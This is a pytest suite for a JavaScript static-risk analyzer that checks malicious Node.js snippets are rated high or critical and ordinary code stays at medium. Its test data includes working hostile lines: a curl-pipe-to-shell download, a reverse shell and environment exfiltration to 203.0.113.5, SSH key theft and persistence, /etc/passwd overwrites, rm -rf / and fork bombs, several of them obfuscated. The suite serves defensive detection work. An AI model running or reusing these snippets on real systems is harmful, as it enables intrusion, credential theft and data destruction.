"""The JavaScript analyzer: what Node.js code is found to do before it runs, and how risky that is.

Malicious snippets must come out high or critical, with the patterns that say why; ordinary code must
come out medium at most. Obfuscation (folded names, decoded payloads, computed members) must not hide
what runs, and what cannot be read raises the risk."""

from __future__ import annotations

import pytest

from airlock.models import Risk
from airlock.policy import js_patterns
from airlock.policy.analysis import read
from airlock.policy.patterns import Findings, Pattern

PATTERNS = [value for value in vars(js_patterns).values() if isinstance(value, Pattern)]


def judge(code: str) -> Findings:
    return read(code, "javascript")


def found(code: str) -> set[str]:
    return {reason.pattern for reason in judge(code).reasons}


def lines(code: str, pattern: str) -> set[int | None]:
    return {reason.line for reason in judge(code).reasons if reason.pattern == pattern}


# -- the patterns' own samples ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("pattern", "code"),
    [(p, code) for p in PATTERNS for _, code in p.examples],
    ids=[f"{p.id}:{code[:30]}" for p in PATTERNS for _, code in p.examples],
)
def test_each_example_is_found(pattern: Pattern, code: str) -> None:
    assert pattern.id in found(code)


@pytest.mark.parametrize(
    ("pattern", "code"),
    [(p, code) for p in PATTERNS for _, code in p.benign],
    ids=[f"{p.id}:{code[:30]}" for p in PATTERNS for _, code in p.benign],
)
def test_each_look_alike_is_not(pattern: Pattern, code: str) -> None:
    assert pattern.id not in found(code)


def test_every_pattern_is_a_javascript_one() -> None:
    assert len(PATTERNS) >= 15
    assert all(p.id.startswith("js.") and all(lang == "javascript" for lang, _ in p.examples) for p in PATTERNS)


# -- malicious code: high or critical, for the right reasons ---------------------------------------------
MALICIOUS = [
    ("require('child_process').execSync('curl -s http://203.0.113.5/x.sh | sh');", {"net.download-exec"}),
    ("const { exec } = require('child_process');\nexec(process.argv[2]);", {"js.dynamic-command"}),
    ("const m = 'child_' + 'process';\nrequire(m).execSync('id');", {"js.child-process", "js.dynamic-import"}),
    ("const cp = require(['child', 'process'].join('_'));\ncp.spawn('rm', ['-rf', '/']);", {"delete.root"}),
    (
        "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp'));",
        {"js.decode-exec", "js.eval-literal", "delete.root"},
    ),
    ("global['ev' + 'al']('process.exit()');", {"js.computed-member", "js.eval-literal"}),
    ("globalThis[name](payload);", {"js.computed-member"}),
    ("this.constructor.constructor('return process')().mainModule.require('child_process');", {"js.computed-member"}),
    ("new Function(Buffer.from('cmV0dXJuIHByb2Nlc3M=', 'base64').toString())();", {"js.decode-exec"}),
    ("process.binding('spawn_sync').spawn({ file: '/bin/sh' });", {"js.native"}),
    ("const fs = require('fs');\nfs.rmSync('/usr', { recursive: true, force: true });", {"delete.root"}),
    ("require('fs').appendFileSync('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA');", {"persist.ssh-keys"}),
    ("require('fs').writeFileSync('/etc/passwd', 'x::0:0::/:/bin/sh');", {"priv.system-file"}),
    ("const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa');", {"cred.files"}),
    (
        "const net = require('net');\nconst { spawn } = require('child_process');\n"
        "const s = net.connect(4444, '203.0.113.5');\nconst sh = spawn('/bin/bash', ['-i']);\n"
        "s.pipe(sh.stdin); sh.stdout.pipe(s);",
        {"js.reverse-shell"},
    ),
    ("const { fork } = require('child_process');\nwhile (true) fork(__filename);", {"js.fork-bomb"}),
    ("process.kill(-1, 'SIGKILL');", {"js.kill-all"}),
    ("process.setuid(0);", {"js.setuid"}),
    ("const vm = require('vm');\nvm.runInNewContext(userCode, {});", {"js.dynamic-eval"}),
    ('setTimeout(\'require("child_process").execSync("reboot")\', 0);', {"js.eval-literal", "system.shutdown"}),
    ("const e = eval;\ne(code);", {"js.dynamic-eval"}),
    ("Reflect.construct(Function, ['return process'])();", {"js.dynamic-eval"}),
    ("process.mainModule.require('child_process').execSync('id');", {"js.dynamic-import"}),
    ("require('child_process')['exec' + 'Sync']('id');", {"js.computed-member"}),
    ("require('\\u0063hild\\x5fprocess').execSync('id');", {"js.child-process", "js.dynamic-import"}),
    ("import('child_process').then((m) => m.exec(cmd));", {"js.dynamic-command"}),
    ("const s = 'return process';\n[]['constr' + 'uctor']['constr' + 'uctor'](s)();", {"js.computed-member"}),
    ("fetch('https://203.0.113.5', { method: 'POST', body: JSON.stringify(process.env) });", {"js.exfiltration"}),
]


@pytest.mark.parametrize(("code", "patterns"), MALICIOUS, ids=[code[:50] for code, _ in MALICIOUS])
def test_malicious_code_is_high_or_critical(code: str, patterns: set[str]) -> None:
    findings = judge(code)

    assert findings.risk >= Risk.HIGH, [str(reason) for reason in findings.reasons]
    assert patterns <= {reason.pattern for reason in findings.reasons}


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').exec('rm -rf /');",
        "const fs = require('fs');\nfs.rmSync('/', { recursive: true, force: true });",
        "require('fs').writeFileSync(`/etc/sudoers.d/${user}`, 'ALL ALL=(ALL) NOPASSWD: ALL');",
        "const { fork } = require('child_process');\nwhile (true) { fork(__filename); }",
        "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgLyIp'));",
    ],
)
def test_the_worst_is_critical(code: str) -> None:
    assert judge(code).risk is Risk.CRITICAL


# -- ordinary code: medium at most -------------------------------------------------------------------------
ORDINARY = [
    "const fs = require('fs');\nconst rows = fs.readFileSync('data.csv', 'utf8').trim().split('\\n');",
    "const fs = require('fs');\nfs.writeFileSync('out/result.json', JSON.stringify({ total: 3 }, null, 2));",
    "const fsp = require('fs/promises');\nawait fsp.mkdir('build', { recursive: true });\n"
    "await fsp.writeFile('build/a.txt', 'x');",
    "const nums = [3, 1, 2];\nconsole.log(nums.sort((a, b) => a - b).map((x) => x * x).reduce((a, b) => a + b, 0));",
    "async function main() {\n  const res = await fetch('https://api.example.com/items');\n  return res.json();\n}",
    "class Stack {\n  #items = [];\n  push(x) { this.#items.push(x); }\n  pop() { return this.#items.pop(); }\n}",
    "const m = /(\\d+)-(\\d+)/.exec('10-20');\nconsole.log(Number(m[1]) + Number(m[2]));",
    "const email = new RegExp('^[^@]+@[^@]+$');\nconsole.log(email.test('a@b.c'));",
    "const path = require('path');\nconst file = path.join(__dirname, 'data', 'config.json');",
    "const data = JSON.parse('{\"a\": [1]}');\nfor (const [key, value] of Object.entries(data)) console.log(key);",
    "const port = Number(process.env.PORT || 3000);\nconsole.log(process.env.HOME, port);",
    "setTimeout(() => console.log('later'), 100);\nconst timer = setInterval(function tick() {}, 1000);",
    "const row = {};\nconst key = 'name';\nrow[key] = 'x';\nconsole.log(row['name']);",
    "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); }\nconsole.log(fib(20));",
    "const crypto = require('crypto');\nconsole.log(crypto.createHash('sha256').update('x').digest('hex'));",
    "const fs = require('fs');\nfs.rmSync('tmp-build', { recursive: true });\nfs.unlinkSync('/tmp/x.lock');",
    "const text = Buffer.from('aGVsbG8=', 'base64').toString();\nconsole.log(text);",
    "import fs from 'node:fs';\nimport { join } from 'node:path';\nfs.writeFileSync(join('out', 'a.txt'), 'x');",
    "const { spawnSync } = require('child_process');\n"
    "const r = spawnSync('git', ['status', '--short'], { encoding: 'utf8' });",
    "const cp = require('child_process');\nconsole.log(cp.execSync('ls -la').toString());",
    "try {\n  JSON.parse('{');\n} catch (err) {\n  console.error(err.message);\n}",
    "const results = await Promise.all([1, 2, 3].map(async (x) => x * 2));\nexport default results;",
    "const add = new Function('a', 'b', 'return a + b');\nconsole.log(add(1, 2));",
    "const ws = new WebSocket('wss://example.com/feed');\nws.onmessage = (event) => console.log(event.data);",
]


@pytest.mark.parametrize("code", ORDINARY, ids=[code[:50] for code in ORDINARY])
def test_ordinary_code_is_medium_at_most(code: str) -> None:
    findings = judge(code)

    assert findings.risk <= Risk.MEDIUM, [str(reason) for reason in findings.reasons]


def test_fetch_is_medium_not_high() -> None:
    findings = judge("const res = await fetch('https://example.com/data.json');\nconsole.log(await res.json());")

    assert findings.risk is Risk.MEDIUM
    assert found("fetch('https://example.com')") == {"js.network"}


def test_plain_code_finds_nothing() -> None:
    assert judge("const x = [1, 2, 3].map((n) => n * 2);\nconsole.log(x);").reasons == []


# -- where: line numbers -------------------------------------------------------------------------------------
def test_reasons_name_the_line_of_the_call() -> None:
    code = "const fs = require('fs');\n\nconsole.log('start');\n\nrequire('child_process').execSync('rm -rf /');\n"

    assert lines(code, "js.child-process") == {5}
    assert lines(code, "delete.root") == {5}


def test_code_in_an_eval_string_is_reported_at_the_eval() -> None:
    code = 'const a = 1;\nconst b = 2;\neval(\'const x = 1;\\nrequire("fs").writeFileSync("/etc/passwd", "")\');'

    assert lines(code, "js.eval-literal") == {3}
    assert lines(code, "priv.system-file") == {3}


def test_an_unparsed_script_names_the_line_it_breaks_at() -> None:
    code = "const a = 1;\nconst b = 2;\nfunction f( {\n"

    assert lines(code, "js.unparsed") == {3}
    assert judge(code).risk >= Risk.HIGH


def test_what_parses_around_an_error_is_still_read() -> None:
    assert {"js.unparsed", "delete.root"} <= found("const x = ;\nrequire('child_process').exec('rm -rf /');")


# -- constant folding ------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "spelled",
    [
        "'child_' + 'process'",
        "`child_process`",
        "'child' + '_' + 'process'",
        "['child', 'process'].join('_')",
        "'ssecorp_dlihc'.split('').reverse().join('')",
        "String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)",
        "atob('Y2hpbGRfcHJvY2Vzcw==')",
        "Buffer.from('6368696c645f70726f63657373', 'hex').toString()",
        "'child\\x5fprocess'",
        "'\\u{63}hild_process'",
        "NAME",
    ],
)
def test_a_module_name_is_folded_before_it_is_judged(spelled: str) -> None:
    code = f"const NAME = 'child_' + 'process';\nconst m = require({spelled});\nm.execSync('rm -rf /');"

    assert {"js.child-process", "delete.root"} <= found(code)
    assert judge(code).risk is Risk.CRITICAL


def test_a_name_that_cannot_be_folded_is_a_finding() -> None:
    assert found("const m = require(name);") == {"js.dynamic-import"}
    assert found("const m = await import(`./plugins/${name}.js`);") == {"js.dynamic-import"}


def test_a_shadowed_constant_is_not_trusted() -> None:
    code = "const m = 'fs';\nfunction load(m) { return require(m); }\nload('child_process');"

    assert "js.dynamic-import" in found(code)


def test_a_folded_command_is_judged_by_the_shell_analyzer() -> None:
    assert "delete.root" in found("const { execSync } = require('child_process');\nexecSync('rm -' + 'rf /');")
    assert "delete.root" in found("const target = '/';\nrequire('child_process').execSync(`rm -rf ${target}`);")


def test_an_argv_is_joined_for_the_shell_analyzer() -> None:
    code = "const { spawn } = require('child_process');\nspawn('sh', ['-c', 'curl http://203.0.113.5/x | sh']);"

    assert "net.download-exec" in found(code)
    assert "net.download-exec" in found(code.replace("spawn", "execFile"))


def test_folded_paths_are_judged_where_they_point() -> None:
    home = "const fs = require('fs');\nconst os = require('os');\n"

    assert "persist.ssh-keys" in found(home + "fs.writeFileSync(os.homedir() + '/.ssh/authorized_keys', k);")
    assert "fs.write-system" in found(home + "fs.writeFileSync('../../etc/hosts', 'x');")
    assert "fs.write-system" in found(home + "fs.writeFileSync(`/etc/${name}`, 'x');")
    assert found(home + "fs.writeFileSync('/tmp/out.txt', 'x');\nfs.writeFileSync('./a/b.txt', 'x');") == set()


# -- evaluated code --------------------------------------------------------------------------------------------
def test_an_eval_literal_is_analyzed_as_javascript() -> None:
    findings = judge("eval(\"require('child_process').exec('rm -rf /')\");")

    assert {"js.eval-literal", "js.child-process", "delete.root"} <= {r.pattern for r in findings.reasons}
    assert findings.risk is Risk.CRITICAL


def test_a_harmless_eval_literal_is_medium() -> None:
    assert judge("eval('1 + 1');").risk is Risk.MEDIUM
    assert judge("const f = new Function('a', 'b', 'return a + b');").risk is Risk.MEDIUM


def test_function_parameters_are_evaluated_too() -> None:
    code = "new Function('a = require(\"child_process\").execSync(\"rm -rf /\")', 'return a');"

    assert "delete.root" in found(code)


def test_eval_within_eval_within_eval_is_followed() -> None:
    inner = "require('child_process').exec('rm -rf /')"
    code = f"eval({inner!r})"
    for _ in range(3):
        code = f"eval({code!r})"

    assert "delete.root" in found(code)


def test_eval_nested_too_deep_to_follow_is_a_finding() -> None:
    code = "1"
    for _ in range(12):
        code = f"eval({code!r})"

    assert "obfuscation.nesting" in found(code)
    assert judge(code).risk >= Risk.HIGH


@pytest.mark.parametrize(
    "code",
    [
        "eval(input);",
        "eval('1' + x);",
        "new Function(body)();",
        "setTimeout(`step(${n})`, 10);",
        "window.eval(code);",
        "(0, eval)('1');",
        "const vm = require('vm');\nnew vm.Script(source);",
    ],
)
def test_evaluating_what_cannot_be_read_is_high(code: str) -> None:
    assert judge(code).risk >= Risk.HIGH
    assert "js.dynamic-eval" in found(code)


# -- obfuscated reach ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("code", "pattern"),
    [
        ("global['ev' + 'al']('1');", "js.computed-member"),
        ("globalThis[x];", "js.computed-member"),
        ("process['binding']('fs');", "js.native"),
        ("process[name]();", "js.computed-member"),
        ("this.constructor.constructor('return this')();", "js.computed-member"),
        ("(() => {}).constructor('return process')();", "js.computed-member"),
        ("const cp = require('child_process');\ncp[method]('ls');", "js.computed-member"),
        ("const cp = require('child_process');\nconst run = cp.execSync.bind(cp);", "js.dynamic-command"),
        ("const { exec } = require('child_process');\n[exec][0]('ls');", "js.dynamic-command"),
        ("module.constructor._load('child_process');", "js.dynamic-import"),
        ("eval(String.fromCharCode(49));", "js.decode-exec"),
        ("require('child_process').execSync(Buffer.from(c, 'base64').toString());", "js.decode-exec"),
        ("x['ev' + 'al'];", "js.computed-member"),
    ],
)
def test_obfuscated_reach_is_found(code: str, pattern: str) -> None:
    assert pattern in found(code)
    assert judge(code).risk >= Risk.HIGH


def test_a_regex_exec_is_not_a_command() -> None:
    code = "const cp = require('child_process');\nconst re = /(\\w+)/;\nconst m = re.exec(line);"

    assert found(code) == {"js.child-process"}


def test_a_promisified_exec_is_followed() -> None:
    code = (
        "const util = require('util');\nconst cp = require('child_process');\n"
        "const run = util.promisify(cp.exec);\nawait run('rm -rf /');"
    )

    assert "delete.root" in found(code)
    assert "js.dynamic-command" not in found(code)


# -- processes and the network --------------------------------------------------------------------------------------
def test_a_socket_with_a_shell_is_a_reverse_shell_but_either_alone_is_not() -> None:
    socket = "const net = require('net');\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.5');\n"
    shell = "const cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', ['-i']);\n"

    assert "js.reverse-shell" in found(socket + shell)
    assert judge(socket + shell).risk is Risk.CRITICAL
    assert "js.reverse-shell" not in found(socket)
    assert "js.reverse-shell" not in found(shell)


def test_starting_itself_is_a_fork_bomb_unless_guarded() -> None:
    start = "const { fork } = require('child_process');\n"

    assert judge(start + "fork(__filename);").risk is Risk.CRITICAL
    assert judge(start + "for (let i = 0; i < 4; i++) fork(__filename);").risk is Risk.CRITICAL
    assert "js.fork-bomb" not in found(start + "if (!process.env.CHILD) fork(__filename, [], { env: { CHILD: '1' } });")
    assert judge(start + "if (!process.env.CHILD) while (true) fork(__filename);").risk is Risk.CRITICAL


def test_a_command_repeated_with_pauses_is_not_a_fork_bomb() -> None:
    assert "js.fork-bomb" not in found("setInterval(() => require('child_process').exec('date'), 1000);")


@pytest.mark.parametrize(
    "code",
    [
        "const https = require('https');",
        "import net from 'node:net';",
        "const dns = await import('dns/promises');",
        "const xhr = new XMLHttpRequest();",
        "const { request } = require('undici');",
    ],
)
def test_the_network_is_medium(code: str) -> None:
    assert "js.network" in found(code)
    assert judge(code).risk is Risk.MEDIUM


def test_the_whole_environment_is_medium_a_variable_is_nothing() -> None:
    assert found("console.log(JSON.stringify(process.env));") == {"js.env-dump"}
    assert found("for (const k in process.env) console.log(k);") == {"js.env-dump"}
    assert found("const token = process.env.TOKEN;\nconst env = { ...process.env, X: '1' };") == set()


# -- robustness ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "code",
    [
        "(" * 20_000 + "x" + ")" * 20_000,
        "[" * 20_000 + "]" * 20_000,
        "f(" * 5_000 + ")" * 5_000,
        "a" + ".b" * 20_000 + "();",
        "eval(" * 2_000 + "'x'" + ")" * 2_000,
        "const cp = require('child_process');\n" + "cp.spawn(" * 2_000 + "'x'" + ")" * 2_000,
    ],
    ids=["parentheses", "arrays", "calls", "members", "evals", "spawns"],
)
def test_deep_nesting_does_not_break_the_analyzer(code: str) -> None:
    judge(code)  # no RecursionError, and well within the test's time limit


def test_folding_has_a_budget() -> None:
    doubling = "const a0 = 'xx';\n" + "".join(f"const a{i} = a{i - 1} + a{i - 1};\n" for i in range(1, 64))

    assert "js.dynamic-import" in found(doubling + "require(a63);")
    assert "js.dynamic-import" in found("const a = b + 'x';\nconst b = a + 'y';\nrequire(a);")


@pytest.mark.parametrize("code", ["", "\n\n", "// only a comment", "'\\ud800'", "#!/usr/bin/env node\n"])
def test_odd_input_is_read(code: str) -> None:
    judge(code)
